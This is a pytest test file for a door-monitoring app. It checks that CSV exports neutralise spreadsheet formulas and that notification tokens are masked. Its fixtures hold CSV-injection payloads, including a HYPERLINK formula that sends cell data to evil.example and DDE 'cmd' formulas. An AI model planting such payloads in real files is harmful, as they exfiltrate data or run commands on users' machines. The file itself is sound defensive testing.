"""Issue 17, items 4 and 13: no live formulas in any CSV export; no notification secret shown.

The CLI runs as an operator runs it (``python -m doorwatch ...`` in a
subprocess); the web exports and pages are fetched over HTTP from the app
served by uvicorn.
"""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
from pathlib import Path

from ground.csvsafe import csv_text, safe_cell
from server.config import ServerSettings
from server.db.base import Database
from server.domain.notification_outbox import queue_incident_notifications
from server.domain.people import WorkerUpdate, update_worker
from server.web import actions
from tests.web.conftest import Served
from tests.web.helpers import PASSWORD, Seed

# What the attack wrote into names, addresses, notes and the acknowledging actor.
FORMULAS = {
    "household": "=1+2",
    "address": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "note": "=cmd|' /C calc'!A0",
    "acknowledged_by": "@SUM(1+1)*cmd|' /C calc'!A0",
}
SECRETS = {
    "wecombot://WECOMBOTSECRETKEY0123456789": "WECOMBOTSECRETKEY0123456789",
    "dingtalk://DINGSECRET99@DINGTOKEN0123456789abcdef/": "DINGTOKEN0123456789abcdef",
    "tgram://123456789:TGRAMBOTTOKENsecretABCDEF/987654": "TGRAMBOTTOKENsecretABCDEF",
}


def _run_cli(*args: str, config: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "doorwatch", *args, "--config", str(config)],
                          capture_output=True, text=True, timeout=120, check=False,
                          env={"PATH": "/usr/bin:/bin", "DOORWATCH_LANG": "en"})


def _config(settings: ServerSettings, tmp_path: Path) -> Path:
    config = tmp_path / "server.toml"
    config.write_text(f'database_url = "{settings.database_url}"\n', encoding="utf-8")
    return config


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_safe_cell_neutralises_every_formula_start() -> None:
    for bad in ("=1+2", "+SUM(1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+2",
                "=cmd|' /C calc'!A0"):
        assert str(safe_cell(bad)).startswith("'"), bad
    for fine in ("张三家", "road 1", "", "a=b", "1-2"):
        assert safe_cell(fine) == fine
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""
    assert _cells(csv_text(["a"], [["=1"]])) == [{"a": "'=1"}]


async def test_every_export_writes_formulas_as_text_the_same_way(
    served: Served, db: Database, seeded: Seed, settings: ServerSettings, tmp_path: Path
) -> None:
    incident = seeded.incidents["east"]
    async with db.transaction() as tx:
        await tx.execute("UPDATE households SET name = ?, address = ? WHERE id = ?",
                         (FORMULAS["household"], FORMULAS["address"], seeded.households["east"]))
    await actions.acknowledge_incident(db, incident, FORMULAS["acknowledged_by"])
    await actions.resolve_incident(db, incident, "super", actions.Outcome("false_alarm"),
                                   FORMULAS["note"])

    result = await asyncio.to_thread(_run_cli, "incidents", "export", "-",
                                     config=_config(settings, tmp_path))
    assert result.returncode == 0, result.stderr
    exports = {"cli": _cells(result.stdout)}
    async with served.client() as http:
        login = await http.post("/api/login", json={"username": "super", "password": PASSWORD})
        assert login.status_code == 200
        exports["page"] = _cells((await http.get("/incidents.csv")).text)
        exports["api"] = _cells((await http.get("/api/incidents/export.csv")).text)

    for where, rows in exports.items():
        row = next(r for r in rows if r["id"] == str(incident))
        for column, formula in FORMULAS.items():
            assert row[column] == "'" + formula, (where, column, row[column])
        for cells in rows:
            for column, value in cells.items():
                assert not value.startswith(("=", "+", "-", "@")), (where, column, value)


async def test_notification_urls_are_shown_with_apprises_privacy_everywhere(
    served: Served, db: Database, seeded: Seed, settings: ServerSettings, tmp_path: Path
) -> None:
    worker = seeded.workers["east"]
    await update_worker(db, worker, WorkerUpdate(apprise_urls=list(SECRETS)), actor="admin")
    incident = seeded.incidents["east"]
    async with db.transaction() as tx:
        queued = await queue_incident_notifications(
            tx, incident_id=incident, kind="breach", household_id=seeded.households["east"],
            device_id="door-east", at="", dashboard_url="http://127.0.0.1:9", timezone="UTC")
    assert queued == len(SECRETS)

    shown: dict[str, str] = {}
    async with served.client() as http:
        login = await http.post("/api/login", json={"username": "east", "password": PASSWORD})
        assert login.status_code == 200
        shown["incident page"] = (await http.get(f"/incidents/{incident}")).text
        shown["incident api"] = (await http.get(f"/api/incidents/{incident}")).text
    config = _config(settings, tmp_path)
    for command in (("worker", "list"), ("worker", "list", "--json"),
                    ("incidents", "show", str(incident))):
        result = await asyncio.to_thread(_run_cli, *command, config=config)
        assert result.returncode == 0, result.stderr
        shown[" ".join(command)] = result.stdout + result.stderr

    for where, text in shown.items():
        for secret in SECRETS.values():
            assert secret not in text, f"{secret} shown by {where}"
    # Apprise's own masked rendering is what people see (the scheme stays recognisable).
    for where in ("incident page", "incident api", "worker list"):
        assert "wecombot://W...9" in shown[where], where
        assert "tgram://1...F/987654" in shown[where], where
